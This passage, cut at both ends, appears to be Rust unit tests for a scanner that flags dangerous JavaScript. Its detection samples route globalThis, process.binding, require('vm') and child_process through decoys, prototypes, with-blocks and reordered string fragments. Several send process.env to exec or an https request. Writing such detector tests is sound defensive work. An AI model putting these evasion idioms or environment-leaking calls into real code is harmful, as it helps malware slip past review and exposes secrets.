            "const o = { m() { try { throw process; } catch (p) { return 1; } } };\ntry { o.m(); } catch (e) { e.binding(x); }",
            "const a = { m() { throw globalThis; } };\nconst b = { m() { return 1; } };\ntry { b.m(); } catch (e) { e.eval(x); }",
        ];
        assert_route(&found, &clean);
    }

    #[test]
    fn slo_02_a_promise_rejected_by_its_executor_reaches_the_rejection_handler() {
        // Each scanned clean before: only `Promise.reject(x)` and calls of
        // throwing functions carried a rejection.
        let found = [
            // The executor's reject parameter, called directly, from a
            // callback inside it; a `function` executor.
            ("new Promise((_, rej) => rej(globalThis)).catch((g) => g.eval(x));", RuleId::EvalCall),
            (
                "new Promise(function (res, rej) { rej(process); }).then(null, function (p) { p.binding('fs'); });",
                RuleId::ProcessBinding,
            ),
            (
                "new Promise((ok, no) => setTimeout(() => no(globalThis), 10)).catch((g) => g.eval(x));",
                RuleId::EvalCall,
            ),
            // A throw in the executor, its own or a called function's.
            ("new Promise(() => { throw globalThis; }).catch((g) => g.eval(x));", RuleId::EvalCall),
            (
                "function f() { throw process; }\nnew Promise((res) => { f(); res(1); }).catch((p) => p.binding('fs'));",
                RuleId::ProcessBinding,
            ),
            // Awaited in a try block.
            (
                "async function m() { try { await new Promise((_, r) => r(process)); } catch (p) { p.dlopen(a, b); } }",
                RuleId::ProcessDlopen,
            ),
            // Stored in a variable first: handled, chained, awaited; a
            // stored `Promise.reject`.
            ("const p = new Promise((_, rej) => { rej(globalThis); });\np.catch((g) => g.eval(x));", RuleId::EvalCall),
            (
                "const p = new Promise((_, rej) => rej(globalThis));\nconst q = p.finally(() => 0);\nq.catch((g) => g.eval(x));",
                RuleId::EvalCall,
            ),
            (
                "async function m() { const p = new Promise((_, rej) => rej(process)); try { await p; } catch (e) { e.binding('fs'); } }",
                RuleId::ProcessBinding,
            ),
            ("const p = Promise.reject(globalThis);\np.catch((g) => g.eval(x));", RuleId::EvalCall),
        ];
        // Benign twins: executors that reject or throw errors, a promise
        // resolved (not rejected) with the global object, a reject function
        // of another promise.
        let clean = [
            "new Promise((_, rej) => rej(new Error('x'))).catch((e) => console.error(e.stack));",
            "new Promise((res, rej) => { fs.readFile(f, (err, d) => (err ? rej(err) : res(d))); }).then((d) => use(d), (e) => log(e.message));",
            "new Promise(() => { throw new TypeError('t'); }).catch((e) => e.message);",
            "new Promise((res) => res(globalThis)).catch((g) => g.eval(x));",
            "const rej = (v) => v;\nrej(globalThis);\nnew Promise((_, r) => r(new Error('x'))).catch((e) => e.eval(x));",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: a binding, a return, a throw, a rejection or a literal's
    /// member that holds one tracked value first (a decoy) and another later
    /// is read as holding both: each table entry keeps every tracked value
    /// stored in it, and the walk is repeated in one world per value.
    #[test]
    fn slo_02_a_value_stored_after_a_decoy_is_still_read() {
        // Each scanned clean (or without the rule) before: the first value
        // of an entry won.
        let found = [
            // A variable reassigned: plainly, in a branch, in a loop.
            ("let g = require('path');\ng = process;\ng.binding('spawn_sync');", RuleId::ProcessBinding),
            ("let g = {};\ng = globalThis;\ng.eval(x);", RuleId::EvalCall),
            ("let r = {};\nr = require;\nr('vm');", RuleId::ForbiddenBuiltin),
            ("var v = require('path');\nif (c) { v = process; }\nv.binding('fs');", RuleId::ProcessBinding),
            ("var v = require('os');\nfor (const k of ks) { v = globalThis; }\nv.eval(k);", RuleId::EvalCall),
            (
                "let m = require('path');\nm = require('child_process');\nm.exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            // Through an alias and a reassigned object.
            ("const [a] = [require('os')];\nlet b = a;\nb = globalThis;\nconst c = b;\nc.eval(x);", RuleId::EvalCall),
            ("let o = { g: {} };\no = { g: globalThis };\no.g.eval(x);", RuleId::EvalCall),
            // A function returning two values; a function variable reassigned.
            (
                "function pick(x) { if (x) return require('os'); return process; }\npick(0).binding('fs');",
                RuleId::ProcessBinding,
            ),
            (
                "function pick(x) { if (x) return require('os'); return globalThis; }\npick(0).eval(c);",
                RuleId::EvalCall,
            ),
            (
                "const f = (x) => { if (x) return require('os'); return process; };\nf(0).binding('fs');",
                RuleId::ProcessBinding,
            ),
            // A member reassigned, a key written twice in the literal.
            ("const o = { a: globalThis };\no.a = process;\no.a.binding('spawn_sync');", RuleId::ProcessBinding),
            ("const o = { a: globalThis, a: process };\no.a.binding('fs');", RuleId::ProcessBinding),
            ("const o = { a: require('os') };\no['a'] = globalThis;\nconst { a } = o;\na.eval(x);", RuleId::EvalCall),
            // Two values thrown: by a function, by one try block, by methods,
            // by a promise's executor.
            (
                "function f(x) { if (x) throw require('os'); throw globalThis; }\ntry { f(1); } catch (e) { e.eval(x); }",
                RuleId::EvalCall,
            ),
            ("try { if (a) throw require('os'); throw process; } catch (p) { p.binding('fs'); }", RuleId::ProcessBinding),
            (
                "const o = { m() { throw require('os'); }, n() { throw globalThis; } };\ntry { o.m(); } catch (e) { e.eval(x); }",
                RuleId::EvalCall,
            ),
            (
                "const p = new Promise((_, rej) => { if (a) rej(require('os')); rej(process); });\np.catch((e) => e.binding('fs'));",
                RuleId::ProcessBinding,
            ),
        ];
        // Benign twins: a variable reassigned between two harmless modules or
        // values, a member rewritten with another harmless value, a function
        // returning two harmless modules, errors thrown on two paths.
        let clean = [
            "let p = require('path');\np = require('url');\np.join(a, b);",
            "let o = { a: 1 };\no = { a: 2 };\no.a.toFixed(1);",
            "let cfg = {};\nif (x) cfg = { retries: 3 };\nconsole.log(cfg.retries);",
            "const o = { fmt: require('util') };\no.fmt = require('path');\no.fmt.format(x);",
            "function pick(x) { if (x) return require('util'); return require('path'); }\npick(0).join(a);",
            "function f(x) { if (x) throw new TypeError('t'); throw new Error('e'); }\ntry { f(1); } catch (e) { log(e.message); }",
            "let fs = require('fs');\nfs = require('fs/promises');\nfs.readFile(p);",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: an expression with alternatives — a conditional's branches,
    /// a logical operator's operands — gives each of them (one per world),
    /// so a decoy first does not hide the global object, `process`,
    /// `require` or `child_process` second.
    #[test]
    fn slo_02_a_decoy_branch_or_operand_does_not_hide_the_other() {
        // Each scanned without its rule before: the first alternative with a value won.
        let found = [
            ("const g = c ? {} : process;\ng.binding('fs');", RuleId::ProcessBinding),
            ("const g = x ? { a: 1 } : globalThis;\ng.eval(x);", RuleId::EvalCall),
            ("(c ? { a: 1 } : process).binding('fs');", RuleId::ProcessBinding),
            ("const g = 'x' || globalThis;\ng.eval(x);", RuleId::EvalCall),
            ("const o = { a: 1 };\nconst g = (c && o) || globalThis;\ng.eval(x);", RuleId::EvalCall),
            ("const q = { load() {} };\nconst r = q.load ?? require;\nr('vm');", RuleId::ForbiddenBuiltin),
            (
                "const m = c ? require('os') : require('child_process');\nm.exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "const q = { exec() {} };\nconst m = c ? q : require('child_process');\nm.exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
        ];
        assert_route(&found, &[]);
    }

    /// SLO-02: the variable of `for … of`, the parameter of an array
    /// method's callback and an element-returning method's result take
    /// every element of an array built from literals, not one.
    #[test]
    fn slo_02_a_decoy_element_does_not_hide_the_others() {
        // Each scanned without its rule before: one element (a powerful one,
        // else the first) stood for all.
        let chain = RuleId::ExfiltrationChain;
        let found = [
            (
                "for (const m of [require('os'), require('child_process')]) m.exec(JSON.stringify(process.env));",
                chain,
            ),
            (
                "let m;\nfor (m of [require('os'), require('child_process')]) m.exec(JSON.stringify(process.env));",
                chain,
            ),
            (
                "[require('os'), require('child_process')].forEach((m) => m.exec(JSON.stringify(process.env)));",
                chain,
            ),
            (
                "const cp = [require('os'), require('child_process')].find(Boolean);\ncp.execSync(JSON.stringify(process.env));",
                chain,
            ),
            (
                "[require('os'), require('https')].forEach((n) => n.get(u + JSON.stringify(process.env)));",
                chain,
            ),
        ];
        assert_route(&found, &[]);
    }

    /// SLO-02: an immediately-invoked function returns what any of its
    /// `return`s gives (nested in `if`, `try`, `switch`, loops), not only its
    /// first top-level one.
    #[test]
    fn slo_02_a_decoy_return_of_an_immediately_invoked_function_does_not_hide_the_others() {
        let found = [
            ("const g = (() => { if (x) return globalThis; return require('path'); })();\ng.eval(x);", RuleId::EvalCall),
            (
                "const g = (() => { try { return { a: 1 }; } catch (e) { return process; } })();\ng.binding('fs');",
                RuleId::ProcessBinding,
            ),
            (
                "const p = (function () { switch (m) { case 1: return process; default: return {}; } })();\np.dlopen(a, b);",
                RuleId::ProcessDlopen,
            ),
            ("(() => { for (;;) { if (a) return require; } return {}; })()('vm');", RuleId::ForbiddenBuiltin),
        ];
        assert_route(&found, &[]);
    }

    /// SLO-02: a parameter of a function declared in the same file keeps the
    /// value of every call (a table entry, since the entries hold every value).
    #[test]
    fn slo_02_a_parameter_keeps_the_values_of_every_call() {
        let found = [
            (
                "function run(m) { m.exec(JSON.stringify(process.env)); }\nrun(require('os'));\nrun(require('child_process'));",
                RuleId::ExfiltrationChain,
            ),
            ("function run(g) { g.binding('fs'); }\nrun({ a: 1 });\nrun(process);", RuleId::ProcessBinding),
            ("const run = (g) => g.eval(x);\nrun('x');\nrun(globalThis);", RuleId::EvalCall),
        ];
        assert_route(&found, &[]);
    }

    /// SLO-02: a method of an object built from literals returns what its
    /// `return`s (or its arrow's expression) give to its calls `o.m()`, each
    /// of them (a decoy first does not hide a later one).
    #[test]
    fn slo_02_a_method_of_a_literal_returns_its_values_to_its_calls() {
        // Each scanned without its rule before: methods passed nothing back.
        let found = [
            (
                "const o = { m() { return globalThis; } };\no.m().eval(x);",
                RuleId::EvalCall,
            ),
            (
                "const o = { m: () => process };\no.m().binding('fs');",
                RuleId::ProcessBinding,
            ),
            (
                "const o = { r: function () { return require; } };\no.r()('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m() { if (a) return { a: 1 }; return process; } };\no.m().dlopen(a, b);",
                RuleId::ProcessDlopen,
            ),
            (
                "const o = { sh() { return require('child_process'); } };\no.sh().exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
        ];
        let clean = [
            "const api = { root() { return require('path'); } };\napi.root().join(a);",
            "const o = { now() { return Date.now(); } };\no.now().toFixed(2);",
            "const o = { self() { return this; } };\no.self().eval(x);",
            "const t = { g() { return globalThis; }, h() { return 1; } };\nt.h().toFixed(1);",
            "const t = { g() { return globalThis; } };\nconst k = pick();\nt[k]();",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: a class's methods return what their `return`s give to calls
    /// on a new instance, on an instance stored first (even before the class
    /// is declared), and to static calls `K.m()`; an instance getter's
    /// returns are its member; a method assigned later to an object built
    /// from literals (`o.m = …`, `o['m'] = …`) returns to `o.m()` too.
    #[test]
    fn slo_02_class_methods_and_methods_assigned_later_return_their_values() {
        // Each scanned without its rule before: class methods and methods
        // assigned to a member passed nothing back.
        let found = [
            ("class K { m() { return globalThis; } }\nnew K().m().eval(x);", RuleId::EvalCall),
            (
                "const k = new K();\nclass K { m() { return process; } }\nk.m().binding('fs');",
                RuleId::ProcessBinding,
            ),
            (
                "class K { static m() { return process; } }\nK.m().dlopen(a, b);",
                RuleId::ProcessDlopen,
            ),
            (
                "const K = class { static r() { return require; } };\nK.r()('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            ("class K { get g() { return globalThis; } }\nnew K().g.eval(x);", RuleId::EvalCall),
            (
                "class K { m() { if (a) return 1; return require('child_process'); } }\nnew K().m().exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            ("class K { f = () => require; }\nnew K().f()('vm');", RuleId::ForbiddenBuiltin),
            ("const o = {};\no.m = () => process;\no.m().binding('fs');", RuleId::ProcessBinding),
            (
                "const o = {};\no['m'] = function () { if (a) return { a: 1 }; return globalThis; };\no.m().eval(x);",
                RuleId::EvalCall,
            ),
        ];
        let clean = [
            "class K { m() { return require('path'); } }\nnew K().m().join(a);",
            "class K { g() { return globalThis; } h() { return 1; } }\nnew K().h().toFixed(1);",
            "class K { m() { return this; } }\nnew K().m().eval(x);",
            "class K { static m() { return Date.now(); } }\nK.m().toFixed(2);",
            "class K { m() { return process; } }\nK.m().binding('fs');",
            "class K { static m() { return process; } }\nnew K().m().binding('fs');",
            "class K { get g() { return globalThis; } }\nnew K().h.eval(x);",
            "const o = {};\no.m = () => process;\no.n().binding('fs');",
            "const o = {};\no.m = () => Date.now();\no.m().toFixed(2);",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: values other than strings (`require`, a module, `globalThis`,
    /// `process`) returned by a parent's methods and getters (`extends`),
    /// through `super`, by a static getter, or by a method put on a
    /// prototype later.
    #[test]
    fn slo_02_inherited_super_static_getter_and_prototype_methods_return_their_values() {
        // Each scanned without its rule before: only a subclass's own
        // methods, instance getters and methods in the class body returned values.
        let found = [
            (
                "class A { m() { return require; } }\nclass B extends A {}\nnew B().m()('child_process');",
                RuleId::ChildProcess,
            ),
            (
                "class A { m() { return require('child_process'); } }\nclass B extends A {}\nnew B().m().exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "class A { static r() { return require; } }\nclass B extends A {}\nB.r()('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class A { get g() { return globalThis; } }\nclass B extends A {}\nnew B().g.eval(x);",
                RuleId::EvalCall,
            ),
            (
                "class A { m() { return process; } }\nclass B extends A { m() { return super.m(); } }\nnew B().m().binding('fs');",
                RuleId::ProcessBinding,
            ),
            (
                "class A { static m() { return globalThis; } }\nclass B extends A { static m() { return super.m(); } }\nB.m().eval(x);",
                RuleId::EvalCall,
            ),
            ("class K { static get g() { return globalThis; } }\nK.g.eval(x);", RuleId::EvalCall),
            (
                "function K() {}\nK.prototype.r = function () { return require; };\nnew K().r()('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K {}\nK.prototype.r = () => process;\nconst k = new K();\nk.r().dlopen(a, b);",
                RuleId::ProcessDlopen,
            ),
        ];
        // Harmless parents, a name the subclass defines itself, an `extends`
        // that is no name, a static method read on an instance, another
        // getter, another class's prototype.
        let clean = [
            "class A { m() { return require('path'); } }\nclass B extends A {}\nnew B().m().join(a, b);",
            "class A { m() { return globalThis; } }\nclass B extends A { m() { return 1; } }\nnew B().m().eval(x);",
            "class A { m() { return globalThis; } }\nclass B extends mix(A) {}\nnew B().m().eval(x);",
            "class A { static m() { return globalThis; } }\nclass B extends A {}\nnew B().m().eval(x);",
            "class A { m() { return globalThis; } }\nclass B extends A { n() { return super.n(); } }\nnew B().n().eval(x);",
            "class K { static get g() { return globalThis; } }\nK.h.eval(x);",
            "class K { static get g() { return globalThis; } }\nnew K().g.eval(x);",
            "function K() {}\nfunction J() {}\nK.prototype.r = function () { return process; };\nnew J().r().binding('fs');",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: methods and members `Object.assign` copies onto a class or
    /// its prototype, and `super` in an object literal's method (its
    /// `__proto__`, `Object.setPrototypeOf(o, p)`), give their values.
    #[test]
    fn slo_02_methods_copied_onto_classes_and_literal_supers_give_their_values() {
        // Each scanned without its rule before.
        let found = [
            (
                "class K {}\nObject.assign(K.prototype, { m() { return require; } });\nnew K().m()('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K {}\nObject.assign(K, { r: require });\nK.r('child_process').exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "function K() {}\nObject.assign(K.prototype, { g: globalThis }, {});\nnew K().g.eval(x);",
                RuleId::EvalCall,
            ),
            (
                "const p = { m() { return globalThis; } };\nconst o = { __proto__: p, m() { return super.m(); } };\no.m().eval(x);",
                RuleId::EvalCall,
            ),
            (
                "const p = { m() { return process; } };\nconst o = { m() { return super.m(); } };\nObject.setPrototypeOf(o, p);\no.m().binding('fs');",
                RuleId::ProcessBinding,
            ),
        ];
        // Harmless members, another method, another class, ordinary
        // functions and prototypes copied, a `super` of a member the
        // prototype lacks, a literal without a prototype.
        let clean = [
            "class K {}\nObject.assign(K.prototype, { m() { return require('path'); } });\nnew K().m().join(a, b);",
            "class K {}\nObject.assign(K.prototype, { m() { return globalThis; } });\nnew K().n().eval(x);",
            "class K {}\nclass J {}\nObject.assign(K.prototype, { m() { return process; } });\nnew J().m().binding('fs');",
            "class K {}\nObject.assign(K, { log: console.log });\nK.log(x);",
            "const E = require('events');\nfunction K() {}\nObject.assign(K.prototype, E.prototype, { go() { return this; } });\nnew K().go().on('x', f);",
            "const p = { m() { return globalThis; } };\nconst o = { m() { return super.n(); } };\nObject.setPrototypeOf(o, p);\no.m().eval(x);",
            "const o = { m() { return super.m(); } };\no.m().eval(x);",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: strings returned by methods `Object.assign` copies onto a
    /// class or its prototype, and by `super` in an object literal's
    /// method (its `__proto__`).
    #[test]
    fn slo_02_methods_copied_onto_classes_and_literal_supers_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function K() {}\nObject.assign(K.prototype, { m() { return 'child_' + 'process'; } });\nrequire(new K().m()).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "class K {}\nObject.assign(K, { m: () => 'v' + 'm' });\nrequire(K.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const p = { m() { return 'child_'; } };\nconst o = { __proto__: p, m() { return super.m() + 'process'; } };\nrequire(o.m());",
                RuleId::ChildProcess,
            ),
            (
                "const p = { m() { return 'vm'; } };\nconst o = { __proto__: p, m() { return super.m(); } };\nrequire(o.m());",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Harmless methods, another method, another class, a static read
        // of a prototype's method, a harmless prototype, no prototype.
        let harmless = [
            "function K() {}\nObject.assign(K.prototype, { m() { return './a'; } });\nrequire(new K().m());",
            "function K() {}\nObject.assign(K.prototype, { m() { return 'vm'; }, n() { return './b'; } });\nrequire(new K().n());",
            "function K() {}\nfunction J() {}\nObject.assign(K.prototype, { m() { return 'vm'; } });\nrequire(new J().m());",
            "class K {}\nObject.assign(K.prototype, { m() { return 'vm'; } });\nrequire(K.m());",
            "const p = { m() { return './p'; } };\nconst o = { __proto__: p, m() { return super.m(); } };\nrequire(o.m());",
            "const o = { m() { return super.m(); } };\nrequire(o.m());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: inside `with (o)`, a name `o` is not known to hold a
    /// followed value at resolves outside: the global `require`, `eval`,
    /// `Function`, `process`, or a parameter.
    #[test]
    fn slo_02_names_inside_with_blocks_resolve_outside_unless_the_object_holds_them() {
        // Each scanned clean before (the object's unknown member hid the name).
        let found = [
            (
                "function f(m, o) { with (o) { require(m) } }\nf('vm', {});",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f(o) { with (o) { require(x) } }\nf({});",
                RuleId::DynamicRequire,
            ),
            (
                "with ({}) { require('child_process').exec(JSON.stringify(process.env)) }",
                RuleId::ExfiltrationChain,
            ),
            ("function f(m, o) { with (o) { eval(m) } }\nf(x, {});", RuleId::EvalCall),
            (
                "const o = { a: 1 };\nwith (o) { Function(code)() }",
                RuleId::FunctionConstructor,
            ),
            ("with ({ n: 1 }) { process.binding('fs') }", RuleId::ProcessBinding),
        ];
        // Sloppy code without `with`, and `with` blocks that use only
        // harmless names.
        let clean = [
            "function g(m, o) { o.a = m; return o; }\ng('vm', {});",
            "function f(p) { return require('path').join(p, 'a'); }\nf('x');",
            "const o = { a: 1 };\nwith (o) { console.log(a + b); }",
            "function f(s) { var x = s; with ({ n: 1 }) { x = n + 1; } return x; }\nf(2);",
            "with ({ x: 1 }) { JSON.parse(y); }",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: a name inside `with (o)` blocks whose object is known to
    /// hold a string there is that string as a `require` or `import()`
    /// specifier (the innermost such object's; an outer binding of the
    /// name is hidden).
    #[test]
    fn slo_02_strings_a_with_object_holds_are_specifiers() {
        // Each scanned as a bare dynamic-require (or dynamic-import) before;
        // the outer `const` one scanned clean.
        let found = [
            (
                "const o = { m: 'child_process' };\nwith (o) { require(m); }",
                RuleId::ChildProcess,
            ),
            ("with ({ m: 'vm' }) { import(m); }", RuleId::ForbiddenBuiltin),
            (
                "function f(o) { with (o) { return require(m); } }\nf({ m: 'child_' + 'process' });",
                RuleId::ChildProcess,
            ),
            (
                "const m = './a';\nwith ({ m: 'vm' }) { require(m); }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "with ({ m: 'vm' }) { with ({ n: 1 }) { require(m); } }",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A harmless string held, another name held, a name read after
        // the block, an inner block's string not reaching outside it.
        let harmless = [
            "with ({ m: './lib' }) { require(m); }",
            "with ({ n: 'vm' }) { require(k); }",
            "const o = { m: 'vm' };\nwith (o) {}\nrequire(m);",
            "with ({ m: './a' }) { with ({ m: 'vm' }) {} require(m); }",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a member assigned later to an object literal bound to a
    /// name (`o.m = …`, `o['m'] = …`, a key that folds) may hold the value
    /// assigned: read inside `with (o)` or as `o.m`.
    #[test]
    fn slo_02_members_assigned_after_the_literal_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const o = { m: './a' };\no.m = 'child_process';\nwith (o) { require(m); }",
                RuleId::ChildProcess,
            ),
            (
                "const o = { m: './a' };\no['m'] = 'v' + 'm';\nrequire(o.m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = {};\nconst k = 'm';\no[k] = 'vm';\nwith (o) { require(m); }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f(o) { with (o) { return require(m); } }\nconst opts = { m: './a' };\nopts.m = 'vm';\nf(opts);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A local module assigned, another member assigned, another
        // object's member, a key not known, a value not known.
        let harmless = [
            "const o = { m: './a' };\no.m = './b';\nwith (o) { require(m); }",
            "const o = { m: './a' };\no.n = 'vm';\nwith (o) { require(m); }",
            "const o = { m: './a' };\nconst p = {};\np.m = 'vm';\nwith (o) { require(m); }",
            "const o = { m: './a' };\no[process.argv[2]] = 'vm';\nwith (o) { require(m); }",
            "const o = { m: './a' };\no.m = process.argv[2];\nrequire(o.m);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: an object whose prototype is set (`Object.setPrototypeOf`,
    /// `{ __proto__: p }`) gives the values of the members and methods
    /// only its prototype has.
    #[test]
    fn slo_02_objects_whose_prototype_is_set_give_their_values() {
        // Each scanned without its rule before.
        let found = [
            (
                "const p = { m() { return require; } };\nconst o = Object.setPrototypeOf({}, p);\no.m()('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const p = { r: require };\nconst o = {};\nObject.setPrototypeOf(o, p);\no.r('child_process').exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            ("const p = { g: globalThis };\nconst o = { __proto__: p };\no.g.eval(x);", RuleId::EvalCall),
            (
                "const o = {};\nReflect.setPrototypeOf(o, { q: { g: globalThis } });\no.q.g.eval(x);",
                RuleId::EvalCall,
            ),
        ];
        // Another member, a prototype of functions (the inheritance idiom),
        // another object's prototype, no prototype, another module's
        // prototype, an own harmless member hiding the prototype's.
        let clean = [
            "const p = { m() { return require('path'); } };\nconst o = Object.setPrototypeOf({}, p);\no.m().join(a, b);",
            "const p = { g: globalThis };\nconst o = Object.create(p);\no.h.eval(x);",
            "function A() {}\nfunction B() {}\nObject.setPrototypeOf(A.prototype, B.prototype);\nnew A().on('x', f);",
            "const p = { g: globalThis };\nconst o = {};\nconst q = {};\nObject.setPrototypeOf(q, p);\no.g.eval(x);",
            "const o = Object.create(null);\nconst q = {};\nObject.setPrototypeOf(q, null);\nq.g.eval(x);",
            "const E = require('events');\nconst o = {};\nObject.setPrototypeOf(o, E.prototype);\no.on('x', f);",
            "const p = { g: globalThis };\nconst o = { __proto__: p, g: { eval() {} } };\no.g.eval(x);",
            "const p = { g: globalThis };\nconst o = { g: console };\nObject.setPrototypeOf(o, p);\no.g.eval(x);",
        ];
        assert_route(&found, &clean);
    }

    /// SLO-02: strings of members and methods only the prototype has
    /// (`Object.setPrototypeOf`, `Object.create`, `{ __proto__: p }`), and
    /// through `super` in a literal's method whose prototype
    /// `Object.setPrototypeOf` sets.
    #[test]
    fn slo_02_objects_whose_prototype_is_set_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const p = { k: 'child_' + 'process' };\nconst o = {};\nObject.setPrototypeOf(o, p);\nrequire(o.k);",
                RuleId::ChildProcess,
            ),
            (
                "const p = { m() { return 'v' + 'm'; } };\nconst o = Object.setPrototypeOf({}, p);\nrequire(o.m());",
                RuleId::ForbiddenBuiltin,
            ),
            ("const p = { k: 'vm' };\nconst o = Object.create(p);\nrequire(o.k);", RuleId::ForbiddenBuiltin),
            ("const p = { k: 'vm' };\nconst o = { __proto__: p };\nrequire(o.k);", RuleId::ForbiddenBuiltin),
            (
                "const p = { m() { return 'child_'; } };\nconst o = { m() { return super.m() + 'process'; } };\nObject.setPrototypeOf(o, p);\nrequire(o.m());",
                RuleId::ChildProcess,
            ),
        ];
        // Harmless members, an own member hiding the prototype's, another
        // object's prototype, another method, a harmless `super`.
        let harmless = [
            "const p = { k: './a' };\nconst o = Object.create(p);\nrequire(o.k);",
            "const p = { k: 'vm' };\nconst o = { __proto__: p, k: './own' };\nrequire(o.k);",
            "const p = { k: 'vm' };\nconst o = Object.setPrototypeOf({ k: './b' }, p);\nrequire(o.k);",
            "const p = { k: 'vm' };\nconst o = {};\nconst q = {};\nObject.setPrototypeOf(q, p);\nrequire(o.k);",
            "const p = { m() { return 'vm'; } };\nconst o = Object.setPrototypeOf({}, p);\nrequire(o.n());",
            "const p = { m() { return './p'; } };\nconst o = { m() { return super.m(); } };\nObject.setPrototypeOf(o, p);\nrequire(o.m());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: an object literal given its prototype by
    /// `Reflect.setPrototypeOf(o, p)` answers a string member or method it
    /// lacks (and `super` in its methods) with `p`'s.
    #[test]
    fn slo_02_reflect_set_prototype_of_gives_the_prototypes_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const p = { m: 'child_process' };\nconst o = {};\nReflect.setPrototypeOf(o, p);\nrequire(o.m);",
                RuleId::ChildProcess,
            ),
            (
                "const p = { m() { return 'v' + 'm'; } };\nconst o = {};\nReflect.setPrototypeOf(o, p);\nrequire(o.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const p = { m() { return 'child_'; } };\nconst o = { m() { return super.m() + 'process'; } };\nReflect.setPrototypeOf(o, p);\nrequire(o.m());",
                RuleId::ChildProcess,
            ),
        ];
        // An own member hiding the prototype's, another object's prototype,
        // Reflect's result (a boolean, not the object), a local `Reflect`.
        let harmless = [
            "const p = { k: 'vm' };\nconst o = { k: './own' };\nReflect.setPrototypeOf(o, p);\nrequire(o.k);",
            "const p = { k: 'vm' };\nconst o = {};\nconst q = {};\nReflect.setPrototypeOf(q, p);\nrequire(o.k);",
            "const p = { k: 'vm' };\nconst o = Reflect.setPrototypeOf({}, p);\nrequire(o.k);",
            "const Reflect = { setPrototypeOf() {} };\nconst p = { k: 'vm' };\nconst o = {};\nReflect.setPrototypeOf(o, p);\nrequire(o.k);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: an array of strings sorted by a comparison function whose
    /// order is decidable (one conditional on `<`, `<=`, `>` or `>=`
    /// between its two parameters choosing a negative and a positive
    /// number) joins in that order, descending too.
    #[test]
    fn slo_02_arrays_sorted_by_a_decidable_comparison_join_in_its_order() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "require(['m', 'v'].sort((a, b) => (a < b ? 1 : -1)).join(''));",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "require(['m', 'v'].toSorted(function (p, q) { return q < p ? -1 : 1; }).join(''));",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['m', 'v'];\na.sort((x, y) => (x > y ? -1 : 1));\nrequire(a.join(''));",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "require(['process', 'child_'].sort((a, b) => (b >= a ? -1 : 1)).join(''));",
                RuleId::ChildProcess,
            ),
        ];
        // An ascending sort that makes a harmless name, and comparisons
        // whose order is not decided (locale, lengths, equal signs).
        let harmless = [
            "require(['v', 'm'].sort((a, b) => (a < b ? -1 : 1)).join(''));",
            "require(['m', 'v'].sort((a, b) => a.localeCompare(b) * -1).join(''));",
            "const a = ['m', 'v'];\na.sort((x, y) => x.length - y.length);\nrequire(a.join(''));",
            "require(['m', 'v'].sort((a, b) => (a < b ? 1 : 1)).join(''));",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: an array of strings joined after `reverse()`, `sort()`
    /// (default order), `toReversed()` or `toSorted()` is joined in the
    /// order it is in then (a statement reordering a named array: each
    /// order it may be in).
    #[test]
    fn slo_02_arrays_reversed_or_sorted_join_in_their_new_order() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "require(['process', 'child_'].reverse().join(''));",
                RuleId::ChildProcess,
            ),
            (
                "const a = ['process', 'child_'];\na.reverse();\nrequire(a.join(''));",
                RuleId::ChildProcess,
            ),
            ("require(['et', 'n'].toReversed().join(''));", RuleId::ForbiddenBuiltin),
            ("require(['process', 'child_'].sort().join(''));", RuleId::ChildProcess),
            (
                "const a = ['m', 'v'];\na.sort();\na.reverse();\nrequire(a.join(''));",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "require(['m', 'v'].toSorted().toReversed().join(''));",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Local paths reordered, an order that names nothing, a comparison
        // function, another array reordered, a copy that leaves the array.
        let harmless = [
